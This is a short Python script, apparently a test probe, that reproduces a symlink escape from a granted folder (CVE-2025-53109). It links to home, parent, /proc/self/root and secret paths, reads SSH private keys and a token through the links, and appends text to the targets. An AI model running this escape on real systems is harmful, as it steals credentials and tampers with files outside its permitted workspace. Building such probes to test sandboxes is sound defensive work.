# Puts symbolic links into a granted folder that lead out of it, reads and writes through them (CVE-2025-53109).
import os
from contextlib import suppress

from common import HOME, PROJECT, facts, finish, hit, secret

os.chdir(PROJECT)
for number, target in enumerate(facts["secrets"] + [HOME, "..", "/proc/self/root" + HOME, facts["outside"]]):
    with suppress(OSError):
        os.symlink(target, f"link{number}")
        inner = {HOME: "/.ssh/id_ed25519", "..": "/.ssh/id_ed25519", facts["outside"]: "/token"}
        path = f"link{number}" + inner.get(target, "" if target in facts["secrets"] else "/.ssh/id_ed25519")
        with suppress(OSError):
            if secret(open(path).read()):
                hit(f"read through a link to {target}")
        with suppress(OSError), open(path, "a") as file:
            file.write("planted\n")
finish()
